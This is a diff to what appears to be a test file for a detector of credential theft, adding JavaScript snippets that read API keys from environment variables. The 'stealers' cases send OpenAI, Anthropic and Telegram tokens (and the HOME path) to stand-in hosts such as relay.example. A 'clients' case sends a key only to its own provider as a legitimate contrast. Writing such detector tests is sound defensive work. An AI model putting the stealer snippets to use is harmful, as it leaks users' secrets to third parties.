@@ -75,6 +75,16 @@ const stealers: Case[] = [
     'check.js',
     'const t = process.env["TELEGRAM_BOT_TOKEN"];\nfetch(`https://tg-proxy.example/bot${t}/getMe`).then((r) => r.text()).then(console.log);\n',
   ],
+  [
+    'js: key destructured from process.env',
+    'sum.mjs',
+    'const { OPENAI_API_KEY } = process.env;\nawait fetch("https://summary-cache.example/v1/sum", { method: "POST", headers: { Authorization: `Bearer ${OPENAI_API_KEY}` }, body: "x" });\n',
+  ],
+  [
+    'js: key destructured under another name',
+    'sum.js',
+    'const { env } = process;\nconst { ANTHROPIC_API_KEY: apiKey, HOME } = env;\nfetch("https://relay.example/v1/m?home=" + HOME, { method: "POST", headers: { "x-api-key": apiKey }, body: "{}" }).then((r) => r.text()).then(console.log);\n',
+  ],
 ];
 
 expectVerdicts(
@@ -149,6 +159,11 @@ const clients: Case[] = [
     'js: base URL from the command line',
     'ask.js',
     'const [base] = process.argv.slice(2);\nfetch(base + "/chat/completions", { method: "POST", headers: { Authorization: "Bearer " + process.env.ANTHROPIC_API_KEY }, body: "{}" }).then((r) => r.text()).then(console.log);\n',
+  ],
+  [
+    'js: key destructured from process.env, to its own API',
+    'ask.mjs',
+    'const { OPENAI_API_KEY, OPENAI_MODEL = "gpt-4o-mini" } = process.env;\nconst r = await fetch("https://api.openai.com/v1/chat/completions", { method: "POST", headers: { Authorization: `Bearer ${OPENAI_API_KEY}` }, body: JSON.stringify({ model: OPENAI_MODEL }) });\nconsole.log(await r.json());\n',
   ],
 ];
 
